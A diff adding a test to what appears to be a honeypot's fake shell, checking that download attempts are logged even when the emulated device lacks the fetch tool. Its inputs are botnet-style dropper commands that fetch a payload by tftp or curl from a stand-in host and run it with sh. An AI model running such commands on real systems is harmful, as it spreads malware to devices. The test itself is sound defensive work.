@@ -249,3 +249,15 @@ test('hostile patterns cannot stall grep, sed, awk or find', async () => {
   assert.equal((await s.run("echo 'a b c' | awk '{print $3,$1}'")).out, 'c a\n');
   assert.equal((await s.run("echo hello | sed 's/l/L/g'")).out, 'heLLo\n');
 });
+
+test('fetch tools the persona lacks still record what the attacker tried to download', async () => {
+  const s = shellOn(machineFor());
+  const r = await s.run('cd /tmp; tftp -g -r mips 198.51.100.9; sh mips');
+  assert.equal(r.err, '-bash: tftp: command not found\nsh: 0: cannot open mips: No such file\n');
+  const dl = s.events.find((e) => e.event === 'download');
+  assert.deepEqual([dl?.fields.url, dl?.fields.tool, dl?.fields.cwd], ['tftp://198.51.100.9/mips', 'tftp (not installed)', '/tmp']);
+  const busybox = shellOn(machineFor({ distro: 'alpine', osFamily: 'embedded', archetype: 'iot-device' }));
+  await busybox.run('cd /tmp; tftp -g -r arm7 198.51.100.9; curl -O http://198.51.100.9/arm7');
+  assert.deepEqual(busybox.events.filter((e) => e.event === 'download').map((e) => [e.fields.url, e.fields.tool]),
+    [['tftp://198.51.100.9/arm7', 'tftp'], ['http://198.51.100.9/arm7', 'curl (not installed)']]);
+});
